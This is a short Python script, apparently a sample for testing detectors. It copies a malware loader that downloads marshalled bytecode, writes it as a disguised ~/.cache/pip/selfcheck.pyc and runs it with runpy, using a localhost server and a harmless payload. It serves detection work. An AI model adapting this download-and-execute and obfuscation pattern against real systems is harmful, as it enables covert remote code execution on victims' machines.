# technique: T1059.006 T1105 T1027
"""Downloaded bytecode written as a .pyc and run with runpy (T1059.006, T1105, T1027).

Some loaders ship compiled bytecode rather than source, to defeat string
scanning: the C2 serves marshal data; the loader prepends a valid 3.11 pyc
header (importlib.util.MAGIC_NUMBER + flags + zeros), writes it to a
harmless-looking ~/.cache/pip/selfcheck.pyc and runs it with
runpy.run_path, which loads sourceless bytecode.

A good detector raises a high alert: bytecode from the network is written to
a .pyc and executed.
"""
import http.server, importlib.util, marshal, os, runpy, threading, urllib.request

BODY = marshal.dumps(compile("import platform\nNODE = platform.node()\n", "selfcheck.py", "exec"))
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(BODY)
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
try:
    data = urllib.request.urlopen(f"http://127.0.0.1:{srv.server_address[1]}/c", timeout=3).read()
    d = os.path.join(os.path.expanduser("~"), ".cache", "pip"); os.makedirs(d, exist_ok=True)
    p = os.path.join(d, "selfcheck.pyc")
    with open(p, "wb") as f:
        f.write(importlib.util.MAGIC_NUMBER + b"\0" * 12 + data)
    runpy.run_path(p)
except Exception:
    pass
finally:
    srv.shutdown()
